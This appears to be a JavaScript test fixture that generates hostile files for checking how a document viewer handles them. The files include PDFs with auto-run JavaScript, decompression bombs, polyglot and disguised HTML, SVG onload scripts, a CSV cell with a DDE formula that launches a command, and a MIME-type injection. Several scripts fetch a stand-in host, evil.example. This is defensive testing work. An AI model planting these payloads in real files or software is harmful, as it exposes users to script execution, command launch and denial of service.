// Files that are made to do harm to their readers. Each runs a script if it can, which sets `globalThis.ran` and
// asks a host that no page may ask.
import { deflateSync, gzipSync } from "node:zlib";
import { packed, pageOf } from "./files.mjs";

const SCRIPT = "globalThis.ran = true; fetch('http://evil.example/');";
const TEXT = "BT /F1 22 Tf 60 760 Td (Harmless words) Tj ET";
const latin = (text) => Buffer.from(text, "latin1");

/** A PDF with scripts wherever a viewer might run one: on opening, on the page, in a link, in a form. */
const scripted = pageOf(TEXT, {
	catalog: "/OpenAction 6 0 R /AA << /WC 6 0 R >> /AcroForm << /Fields [8 0 R] /XFA (<script>globalThis.ran = true</script>) >>",
	page: "/AA << /O 6 0 R >> /Annots [7 0 R 8 0 R]",
	more: [
		`<< /S /JavaScript /JS (app.alert\\("ran"\\); ${SCRIPT.replaceAll(/[()]/g, "\\$&")}) >>`,
		"<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (http://evil.example/) >> >>",
		"<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [50 50 200 80] /AA << /Fo 6 0 R >> >>",
	],
});

/** A PDF of some hundred kilobytes, whose page has many megabytes of nothing before its words. */
function pdfBomb(megabytes) {
	const content = deflateSync(Buffer.concat([Buffer.alloc(megabytes * 2 ** 20, " "), latin(TEXT)]));
	return pageOf(content.toString("latin1"), { filter: "/Filter /FlateDecode" });
}

/** A picture that claims this many pixels, in black and white: nearly nothing when it is packed. */
function pictureBomb(width, height) {
	return packed({ width, height, depth: 1, colours: 0 }, deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height)));
}

/** The beginning of a zip file, as far as it takes to be one. */
const zip = Buffer.concat([latin("PK\u0003\u0004"), Buffer.alloc(26), gzipSync(Buffer.alloc(2 ** 20))]);

/**
 * What a page does with each: `pdf`, `picture` and `text` are shown, `only` is for download alone, and `failed` could not
 * be shown.
 */
export const hostile = [
	{ title: "PDF with scripts", name: "scripted.pdf", content: scripted, shown: "pdf" },
	{ title: "PDF that unpacks to 64 MiB", name: "bomb.pdf", content: pdfBomb(64), shown: "pdf" },
	{ title: "PDF that is a page", name: "polyglot.pdf", content: latin(`%PDF-1.4\n<html><script>${SCRIPT}</script></html>`), shown: "failed" },
	{ title: "SVG with a script", name: "drawing.svg", content: latin(`<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`), shown: "only" },
	{ title: "HTML that is called a picture", name: "photo.png", mimeType: "image/png", content: latin(`<!doctype html><script>${SCRIPT}</script>`), shown: "only" },
	{ title: "Picture of 400 million pixels", name: "huge.png", content: pictureBomb(20_000, 20_000), shown: "failed" },
	{ title: "Picture of 81 million pixels", name: "large.png", content: pictureBomb(9_000, 9_000), shown: "picture" },
	{ title: "Picture that is cut off", name: "cut.png", content: pictureBomb(64, 64).subarray(0, 40), shown: "failed" },
	{ title: "Packed file", name: "bomb.gz", content: gzipSync(Buffer.alloc(64 * 2 ** 20)), shown: "only" },
	{ title: "Archive", name: "bomb.zip", content: zip, shown: "only" },
	{ title: "Nested FHIR", name: "deep.json", content: latin(`{"resourceType":"Bundle","entry":${"[".repeat(200_000)}`), shown: "failed" },
	{ title: "Text with a script", name: "script.txt", mimeType: "text/html", content: latin(`Words\n<script>${SCRIPT}</script>\n<img src=x onerror="${SCRIPT}">\n`), shown: "text", words: `<script>${SCRIPT}</script>` },
	{ title: "Table with formulas", name: "table.csv", content: latin(`a,b,c\n=cmd|' /C calc'!A0,2,3\n<script>${SCRIPT}</script>,5,6\n`), shown: "text", words: "=cmd|' /C calc'!A0" },
	{ title: "Table with two million cells in a row", name: "wide.csv", content: latin(`${"a,b,c\n".repeat(6)}last row${",x".repeat(2_000_000)}\n`), shown: "text", words: "last row" },
	{ title: "Text with zeros", name: "zeros.txt", content: Buffer.concat([latin("Words"), Buffer.alloc(8)]), shown: "only" },
	{ title: "File of a strange type", name: "strange.bin", mimeType: "text/\"><script>alert(1)</script>; x", content: Buffer.from([0, 1, 2, 3]), shown: "only" },
];
